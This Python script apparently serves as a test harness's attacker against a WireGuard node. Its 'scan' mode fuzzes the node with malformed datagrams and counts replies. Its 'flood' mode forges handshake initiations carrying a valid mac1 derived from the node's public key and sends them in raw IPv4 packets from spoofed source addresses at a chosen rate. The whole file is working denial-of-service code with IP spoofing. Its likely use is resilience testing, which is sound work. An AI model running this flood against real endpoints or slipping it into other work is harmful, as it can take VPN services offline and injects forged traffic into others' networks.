"""A hostile host on the underlay of a WireGuard node: `attack_wireguard.py '{"do": "flood", ...}'` sends, and prints
what came of it as JSON. Standard library only.

scan    every message type at many lengths, and nonsense, from one socket that waits for answers: who does not know the
        node's public key. Prints how many datagrams came back.
flood   initiations that prove that their sender knows the public key (mac1), and nothing more, from spoofed sources
        at a steady rate. Prints how many were sent, and in how many seconds.
"""

from __future__ import annotations

import hashlib
import itertools
import json
import random
import socket
import struct
import sys
import time

INITIATION_BYTES, MAC1_AT = 148, 116
KINDS = range(6)
"""Message types: 1 to 4, and two that are none."""
LENGTHS = (0, 1, 4, 16, 31, 32, 48, 63, 64, 65, 91, 92, 93, 147, 148, 149, 1200)
QUIET_S = 1.5
"""An answer takes less than a millisecond; a busy machine's some more."""
SLICE_S = 0.01
VARIANTS = 256


def datagrams(rng: random.Random) -> list[bytes]:
    found = []
    for kind, length in itertools.product(KINDS, LENGTHS):
        body = bytes([kind, 0, 0, 0]) + rng.randbytes(max(0, length - 4))
        found += [body[:length], rng.randbytes(length)]
    return found


def scan(to: str, port: int, rng: random.Random) -> dict[str, float]:
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    came = 0
    with socket.socket(family, socket.SOCK_DGRAM) as opened:
        sent = datagrams(rng)
        for one in sent:
            opened.sendto(one, (to, port))
        opened.settimeout(QUIET_S)
        try:
            while True:
                opened.recv(65535)
                came += 1
        except TimeoutError:
            pass
    return {"sent": len(sent), "came back": came}


def initiation(public: bytes, rng: random.Random) -> bytes:
    """mac1 as in the paper's section 5.4.4; all else is noise."""
    body = bytes([1, 0, 0, 0]) + rng.randbytes(MAC1_AT - 4)
    key = hashlib.blake2s(b"mac1----" + public).digest()
    return body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)


def spoofed(source: str, to: str, port: int, source_port: int, payload: bytes) -> bytes:
    """An IPv4 packet; no checksum of UDP (RFC 768), the kernel fills in that of the header (raw(7))."""
    ends = socket.inet_aton(source) + socket.inet_aton(to)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0) + ends
    return head + struct.pack("!4H", source_port, port, 8 + len(payload), 0) + payload


def flood(
    to: str, port: int, public: str, sources: list[str], rate: float, seconds: float, rng: random.Random
) -> dict[str, float]:
    key = bytes.fromhex(public)
    ready = [
        spoofed(sources[index % len(sources)], to, port, rng.randrange(1024, 65536), initiation(key, rng))
        for index in range(VARIANTS)
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as opened:
        start, sent, turn = time.monotonic(), 0, itertools.cycle(ready)
        while (passed := time.monotonic() - start) < seconds:
            while sent < passed * rate:
                opened.sendto(next(turn), (to, 0))
                sent += 1
            time.sleep(SLICE_S)
    return {"sent": sent, "seconds": passed}


def main(order: dict[str, object]) -> None:
    rng = random.Random(order.pop("seed"))  # type: ignore[arg-type]
    done = {"scan": scan, "flood": flood}[str(order.pop("do"))](**order, rng=rng)  # type: ignore[operator]
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
